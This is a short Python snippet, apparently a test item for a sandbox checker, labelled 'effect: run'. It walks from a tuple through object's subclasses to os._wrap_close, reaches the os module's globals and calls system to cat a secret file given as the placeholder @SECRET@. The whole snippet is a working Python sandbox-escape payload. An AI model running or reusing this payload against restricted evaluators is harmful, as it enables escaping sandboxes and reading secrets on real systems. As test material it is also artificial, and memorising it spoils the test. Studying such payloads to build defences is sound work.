# From a tuple to object's subclasses, to a class of os whose __init__ knows the module's globals.
# effect: run
found = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"]
found[0].__init__.__globals__["system"]("cat @SECRET@")
